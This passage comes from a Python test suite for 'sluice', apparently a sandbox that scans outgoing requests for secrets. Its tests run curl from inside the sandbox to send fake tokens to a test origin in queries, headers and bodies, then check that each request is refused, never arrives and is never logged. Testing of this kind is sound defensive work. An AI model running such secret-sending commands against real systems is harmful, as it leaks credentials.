        line = [l for l in lines if l["path"].startswith("/search")][-1]
        self.assertEqual((line["reason"], line["scan_rule"]), ("secret_detected", "own_secret:SCAN_TEST_API_TOKEN"))
        self.assertNotIn(value, raw)
        self.assertEqual(heads("/search"), [])


    def test_every_rules_format_is_refused_inside_exec(self):
        """The corpus inside `sluice exec` (publish): each built-in rule's fake secret in the query, a
        field (one-line secrets), a JSON body and a form body, sent by curl from the sandbox: each
        refused with its rule, nothing at the origin, no secret in the log."""
        corpus = os.path.join(self.work, "corpus.json")
        with open(corpus, "w") as f:
            json.dump(CORPUS, f)
        os.chmod(corpus, 0o644)
        script = os.path.join(self.work, "send.py")
        with open(script, "w") as f:
            f.write(EXEC_CORPUS)
        os.chmod(script, 0o755)
        p, lines, summary, raw = self.sx("publish", "/usr/bin/python3 %s %s" % (script, corpus))
        self.assertEqual(p.returncode, 0, p.stderr.decode()[-2000:])
        codes = dict(l.rsplit(" ", 1) for l in p.stdout.decode().splitlines())
        for rule, secret in sorted(CORPUS.items()):
            placements = ["q", "j", "f"] + ([] if "\n" in secret else ["h"])
            for where in placements:
                path = "/echo/corpus-x/%s/%s" % (where, rule)
                with self.subTest(rule=rule, placement=where):
                    self.assertEqual(codes.get(path), "403", p.stderr.decode()[-1500:])
                    got = [l for l in lines if l["path"] == path or l["path"].startswith(path + "?")]
                    self.assertEqual([(l["reason"], l["scan_rule"]) for l in got[-1:]], [("secret_detected", rule)])
                    self.assertEqual(completed(path), [])
                    if where in ("q", "h"):
                        self.assertEqual(heads(path), [])
            self.assertNotIn(secret.split("\n")[0][-20:], raw)


    def test_the_compiled_rules_are_kept_outside_the_sandbox_and_read_by_the_next_run(self):
        """exec keeps the policy's compiled rules in the caller's cache ($HOME/.cache/sluice/scan),
        which the command cannot see; the next run reads them (the same file, touched, not
        rewritten) and refuses as the first did. A cache directory the command could write (here
        inside the workspace) is not used."""
        outside = tempfile.mkdtemp(prefix="sluice-scan-home-")  # a home apart from the workspace
        self.addCleanup(shutil.rmtree, outside, True)
        os.chmod(outside, 0o755)
        home = os.path.join(outside, "home")
        os.makedirs(home, mode=0o700)
        if self.user is not None:
            os.chown(home, self.user, self.user)
        cache = os.path.join(home, ".cache", "sluice", "scan")
        look = "ls -a $HOME/.cache/sluice/scan 2>&1; "
        url = "https://origin.test:8443/search?q="
        first = self.sx("network-read", look + "curl -s -o /dev/null -w '%%{http_code}' '%s%s'" % (url, GITHUB),
                        {"HOME": home})[0]
        self.assertTrue(first.stdout.endswith(b"403"), first.stderr.decode()[-2000:])
        self.assertNotIn(b"rules-", first.stdout)  # the command's home is its own
        files = [f for f in os.listdir(cache) if f.startswith("rules-")]
        self.assertEqual(len(files), 1, os.listdir(cache))
        path = os.path.join(cache, files[0])
        st = os.stat(path)
        self.assertEqual((st.st_mode & 0o777, st.st_uid, os.stat(cache).st_mode & 0o777),
                         (0o600, self.user or 0, 0o700))
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns - 10**9))
        value = "own-secret-value-for-cache-5d81"
        curl = "curl -s -o /dev/null -w '%{http_code} ' "
        second, lines, _, raw = self.sx(
            "network-read", look + curl + "'%s%s'; %s'%s%s'" % (url, GITHUB, curl, url.replace("search", "find"), value),
            {"HOME": home, "SCAN_TEST_API_TOKEN": value})
        self.assertTrue(second.stdout.endswith(b"403 403 "), second.stderr.decode()[-2000:])
        self.assertEqual([l["scan_rule"] for l in lines if l["path"].startswith(("/search", "/find"))][-2:],
                         ["github_token", "own_secret:SCAN_TEST_API_TOKEN"])
        after = os.stat(path)
        self.assertEqual(after.st_ino, st.st_ino)  # read, not compiled and written again
        self.assertGreater(after.st_mtime_ns, st.st_mtime_ns - 10**9)
        self.assertNotIn(value, open(path, "rb").read().decode("latin-1"))

        inside = os.path.join(self.work, "xdg")
        third = self.sx("network-read", "curl -s -o /dev/null -w '%%{http_code}' '%s%s'" % (url, GITHUB),
                        {"HOME": home, "XDG_CACHE_HOME": inside})[0]
        self.assertEqual(third.stdout, b"403", third.stderr.decode()[-2000:])
        self.assertFalse(os.path.exists(os.path.join(inside, "sluice", "scan")))
        self.assertEqual(heads("/search") + heads("/find"), [])


class ScanInsideExecAsNobody(ScanInsideExecAsRoot):
    user = 65534


if __name__ == "__main__":
    unittest.main()
